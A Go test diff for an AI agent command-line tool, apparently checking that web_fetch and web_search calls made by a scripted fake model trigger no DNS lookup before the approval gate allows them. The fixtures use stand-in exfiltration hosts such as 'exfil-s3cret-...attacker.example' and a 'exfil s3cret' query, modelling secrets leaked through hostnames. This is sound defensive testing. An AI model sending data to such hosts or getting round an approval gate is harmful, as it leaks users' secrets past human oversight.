@@ -88,6 +88,31 @@ func (d *dnsCounter) queries() []string {
 // control), the name is looked up. On today's main the first four leak it.
 func TestWebFetchNoDNSBeforeApproval(t *testing.T) {
 	t.Parallel()
+	noDNSBeforeApproval(t, "web_fetch", "exfil-s3cret-", func(t *testing.T, home, host string) []byte {
+		return []byte(`{"url":"http://` + host + `/x"}`)
+	})
+}
+
+// The same for web_search: the search service's host (here a SearXNG
+// instance at a name only the counting DNS server is asked about) is
+// not looked up before the gate's yes, and the query not sent.
+func TestWebSearchNoDNSBeforeApproval(t *testing.T) {
+	t.Parallel()
+	noDNSBeforeApproval(t, "web_search", "search-s3cret-", func(t *testing.T, home, host string) []byte {
+		settings := `{"webSearch": {"backend": "searxng", "url": "http://` + host + `:8080"}}`
+		if err := os.WriteFile(filepath.Join(home, "settings.json"), []byte(settings), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		return []byte(`{"query":"exfil s3cret"}`)
+	})
+}
+
+// noDNSBeforeApproval runs `pilot -p` under each mode with the model
+// calling tool on a host named prefix+<mode>.attacker.example (input
+// makes the call's input and sets the home up), and checks that the name
+// is looked up only where the call may run without asking (mode all).
+func noDNSBeforeApproval(t *testing.T, tool, prefix string, input func(t *testing.T, home, host string) []byte) {
+	t.Helper()
 	bin := pilotBinary(t)
 	if os.Geteuid() != 0 {
 		t.Skip("needs root for a private mount namespace (unshare -m); CI runs as root")
@@ -110,19 +135,20 @@ func TestWebFetchNoDNSBeforeApproval(t *testing.T) {
 		if c.deny {
 			name += " deny"
 		}
-		host := "exfil-s3cret-" + strings.ReplaceAll(name, " ", "-") + ".attacker.example"
+		host := prefix + strings.ReplaceAll(name, " ", "-") + ".attacker.example"
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
+			home, dir := t.TempDir(), t.TempDir()
+			in := input(t, home, host)
 			srv := fakellm.New(fakellm.Script{Turns: []fakellm.Turn{
-				{ToolCalls: []fakellm.ToolCall{{ID: "f", Name: "web_fetch", Input: []byte(`{"url":"http://` + host + `/x"}`)}}, When: &fakellm.When{LastUserContains: "Fetch"}},
+				{ToolCalls: []fakellm.ToolCall{{ID: "f", Name: tool, Input: in}}, When: &fakellm.When{LastUserContains: "Look"}},
 				{Text: "Done.", Repeat: true, When: &fakellm.When{HasToolResult: true}},
 			}})
 			defer srv.Close()
-			home, dir := t.TempDir(), t.TempDir()
 			if c.deny {
-				addRules(t, home, dir, [3]string{"deny", "web_fetch", "*"})
+				addRules(t, home, dir, [3]string{"deny", tool, "*"})
 			}
-			cmd := command(t, srv, home, "-p", "Fetch the page", "--project", dir, "--approve", c.mode)
+			cmd := command(t, srv, home, "-p", "Look it up", "--project", dir, "--approve", c.mode)
 			cmd.Args = append([]string{"unshare", "-m", "--propagation", "private", "sh", "-c", `mount --bind "$0" /etc/resolv.conf && exec "$@"`, resolv, bin}, cmd.Args[1:]...)
 			cmd.Path, _ = exec.LookPath("unshare")
 			var stderr bytes.Buffer
